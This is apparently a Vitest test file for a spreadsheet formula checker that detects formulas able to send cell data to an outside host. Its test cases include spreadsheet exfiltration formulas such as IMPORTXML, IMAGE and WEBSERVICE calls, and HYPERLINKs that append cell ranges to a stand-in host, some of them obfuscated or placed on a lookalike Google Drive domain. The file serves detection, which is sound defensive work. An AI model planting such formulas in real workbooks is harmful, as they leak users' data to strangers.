/** @fileoverview What a formula does that its value does not say. */
import { describe, expect, it } from "vitest";
import { linkInFormula, sendsData } from "../../src/cell/formula";

describe("linkInFormula", () => {
  it.each([
    ['=HYPERLINK("https://a.vn/x","Xem")', "https://a.vn/x"],
    ['= hyperlink( "https://a.vn/""x""" ; "Xem")', 'https://a.vn/"x"'],
    ["=A1", null],
    ["", null],
    ['="HYPERLINK(""https://a.vn"")"', null],
  ])("[E2] %j links to %j", (formula, link) => {
    expect(linkInFormula(formula)).toBe(link);
  });
});

describe("sendsData", () => {
  it.each([
    '=IMPORTXML("https://a.vn/?x="&B2,"//a")',
    '=IMPORTDATA("https://a.vn")',
    '=importrange("https://docs.google.com/spreadsheets/d/1","A!A1")',
    '=IMPORTHTML("https://a.vn","table",1)',
    '=IMAGE("https://a.vn/x.png?"&B2)',
    '=_xlfn.WEBSERVICE("https://a.vn")',
    '=IFERROR(IMPORTXML("https://a.vn/?x="&B2,"//a"),"12-KH/ĐTN")',
    '="12-KH/ĐTN"&LEFT(IMPORTDATA(A1),0)',
    '=HYPERLINK("https://a.vn/"&WEBSERVICE(A1),"Xem")',
    '=IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://a.vn"",""A1"")"),"12-KH/ĐTN")',
    // What stands in cells goes to a stranger's host, by who follows the link.
    '=HYPERLINK("https://a.vn/?x="&B2;"Xem")',
    '=HYPERLINK(CONCATENATE("http://a.vn/",B2,"/",C2),"Xem")',
    '=HYPERLINK("ht"&"tps://a.vn/?"&JOIN(",",A1:Z99),"Xem")',
    '=IF(A1="","",HYPERLINK("https://drive.google.com.a.vn/"&B2,"Xem"))',
    '=HYPERLINK(IF(A1=1,"https://a.vn/"&B2,"x"),"Xem")',
    '=IFERROR(IMAGE("https://a.vn/"&B2),"")',
  ])("[E5] %j can send data out", (formula) => {
    expect(sendsData(formula)).toBe(true);
  });

  it.each([
    "",
    "=A1",
    '=HYPERLINK("https://a.vn/IMAGE(1).png","Xem")',
    '="IMPORTXML("&A1',
    '=IFERROR(__xludf.DUMMYFUNCTION("UNIQUE(A1:A9)"),"x")',
    '=VLOOKUP(B2,"Minh chứng"!A:C,3,0)',
    "=MYIMAGE(A1)",
    "=SUM(IMAGES)",
    '=DISPIMG("ID_1",1)',
    '=HYPERLINK("https://a.vn/x.pdf";"Xem")',
    '=HYPERLINK("https://drive.google.com/file/d/1abc/view","12-KH/ĐTN")',
    // An address that is a cell's, a place in the workbook, a letter, an identifier put into a known host's address.
    '=HYPERLINK(B2;"Xem")',
    '=HYPERLINK("https://"&B2;"Xem")',
    '=HYPERLINK("#gid=0&range=A"&ROW(),"Xem")',
    '=HYPERLINK("mailto:"&B2,"Xem")',
    '=HYPERLINK("https://drive.google.com/open?id="&B2,"Xem")',
    '=HYPERLINK("https://thainguyen.gov.vn/vb/"&B2,"Xem")',
    '=HYPERLINK("https://a.vn/x","Xem "&B2)',
  ])("[E5] %j cannot", (formula) => {
    expect(sendsData(formula)).toBe(false);
  });
});
